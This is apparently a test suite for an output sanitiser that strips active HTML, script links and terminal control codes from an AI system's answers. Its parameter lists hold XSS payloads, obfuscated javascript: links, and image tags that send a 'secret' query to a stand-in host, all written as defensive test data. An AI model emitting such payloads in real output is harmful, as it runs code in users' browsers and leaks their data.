"""Answers that would make a browser or a terminal do something."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from guard_rig import release, said
from hypothesis import given
from hypothesis import strategies as st

GUARD = release(secret_prompt=False)

ACTIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT src=//e.example/x.js>",
    "<scr\x00ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://e.example/?q=secret'>",
    "<svg/onload=alert(1)>",
    "<iframe src='https://e.example'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    "<b onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    '<b title=">" onclick=alert(1)>x</b>',
    '<b "><script>alert(1)</script>',
    "<div style='background:url(//e.example)'>",
    "<link rel=stylesheet href=//e.example>",
    "<meta http-equiv=refresh content='0;url=//e.example'>",
    "<form action=//e.example><input name=a>",
    "<!--<img src=x>-->",
    "<math><mi xlink:href='javascript:1'>",
    "<base href=//e.example>",
    "<video><source onerror=alert(1)>",
    "[y](<img onerror=alert(1)\n>",
    "<x" + " a=1" * 400 + " onclick=alert(1)>",
]


@pytest.mark.catalogue("B48")
@pytest.mark.parametrize("tag", ACTIVE)
def test_a_tag_that_does_something_is_shown_and_not_obeyed(tag):
    out, reason = said(GUARD, f"look: {tag} so")
    assert reason is None
    names = "script|img|svg|iframe|link|meta|form|input|math|mi|base|video|source|!--|x"
    bad = rf"<\s*/?(?:{names})\b|<[ab]\b[^>]*(?:href|onclick)|<div"
    assert not re.search(bad, out, re.IGNORECASE), out


@pytest.mark.catalogue("B48")
def test_images_become_links_which_load_nothing():
    text = "see ![a](https://e.example/?q=secret) ![b][1] ![c]\n\n[1]: https://e.example/p.png\n"
    out, _ = said(GUARD, text)
    assert "![" not in out and "[a](https://e.example/?q=secret)" in out


@pytest.mark.catalogue("B48")
@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x]( \n javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](java\\script:alert)",
        "[x]: javascript:alert(1)",
        "[x]:\n javascript:alert(1)",
        "<javascript:alert(1)>",
        "[x](" + "&#0000106;" * 1 + "avascript:" + "a" * 2000 + ")",
    ],
)
def test_a_link_that_is_code_leads_nowhere(link):
    out, reason = said(GUARD, f"{link}\n")
    assert reason is None
    assert not re.search(r"(?:\]\(|\]:|<)\s*<?(?:[jJ]|&|data|vb)", out), out


@pytest.mark.catalogue("B48")
@pytest.mark.parametrize(
    "text",
    [
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07red",
        "\x1b]8;;https://e.example\x1b\\red\x1b]8;;\x1b\\",
        "\x9b31mred",
        "\x1bcred",
        "r\x08ed",
        "\u202ered\u2069",
        "re\U000e0041d",
        "red\x1b",
        "red\r",
        "\x1b(Bred",
    ],
)
def test_terminal_codes_are_gone(text):
    out, _ = said(GUARD, text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out)
    assert re.sub(r"[^red]", "", out).endswith("red"), out


@pytest.mark.parametrize(
    "text",
    [
        "1 < 2 and 3 > 2; a <- b; <3",
        "a [link](https://a.example/x?y=1) and <https://a.example> and <me@a.example>",
        "[rel](/help) [top](#top) [mail](mailto:me@a.example) arr[0] and f[1](x)",
        "<b>bold</b>, <br/>, <a href='https://a.example'>x</a> and <span class=\"x\">y</span>",
        "wow! really!\n\n* one\n* two\n",
        "[1]: note: this is no link",
        "好的！[链接](https://a.example)",
        "e\u0301\u200d👩\u200d👩 \t tab",
        "```html\n<script>alert('hello')</script>\n![x](y)\n```\nfine\n",
        "~~~~\n<img src=x>\n~~~\n<img src=x>\n~~~~\n",
        "```\n[x](javascript:1)\n",
        "inline `code` and ``more``",
        "``",
        "",
    ],
)
def test_ordinary_text_and_blocks_of_code_stay_as_they_are(text):
    assert said(GUARD, text) == (text, None)


@pytest.mark.parametrize(
    "text",
    [
        "```\ncode\n```\n<img src=x>",
        "```\ncode\n   ```  \n<img src=x>",
        "text `\n<img src=x>\n",
        "- ```\n<img src=x>",
        "<div>\n```\n<img src=x>\n```\n",
        "  ```\n<img src=x>",
        "> ```\n<img src=x>",
        "``` a`b\n<img src=x>",
        "~~~\n```\n~~~\n<img src=x>",
        "````\n```\n````\n<img src=x>",
    ],
)
def test_what_only_looks_like_a_block_of_code_protects_nothing(text):
    out, _ = said(GUARD, text)
    assert "<img" not in out


def test_codes_are_taken_out_of_blocks_of_code_too():
    assert said(GUARD, "```\n\x1b[31mred\x1b[0m\n```\n") == ("```\nred\n```\n", None)


def test_arguments_of_calls_keep_their_markup():
    text = '{"html": "<script>x</script>"}'
    assert said(GUARD, text, "arguments") == (text, None)


@given(st.text(alphabet="<>![]()`~\n /abj:\"'=&;x-", max_size=60))
def test_any_cut_gives_the_same(text):
    said(GUARD, text)


class Seen(HTMLParser):
    """What a browser would obey."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []

    def handle_starttag(self, tag, attrs):
        bad = tag in {"script", "img", "svg", "iframe"} or any(
            (name.startswith("on") and value) or (name == "href" and "script" in (value or "")) for name, value in attrs
        )
        if bad:
            self.active.append(self.get_starttag_text() or tag)


PIECES = [
    "<", ">", "<script", "<img", "<a", "<b", "</b", "/", " ", "\n", "\n\n", '"',
    "'", "=", "x", " onclick", " href", "src",
    "javascript:", "&#106;avascript:", "https://a.example", "<!--",
    "-->", "<svg", "\x00", "\t", "title", "]", "(", "![",
]  # fmt: skip


@pytest.mark.catalogue("B48")
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_a_browser_obeys_nothing_of_any_text(text):
    seen = Seen()
    seen.feed(said(GUARD, text)[0])
    seen.close()
    assert seen.active == []
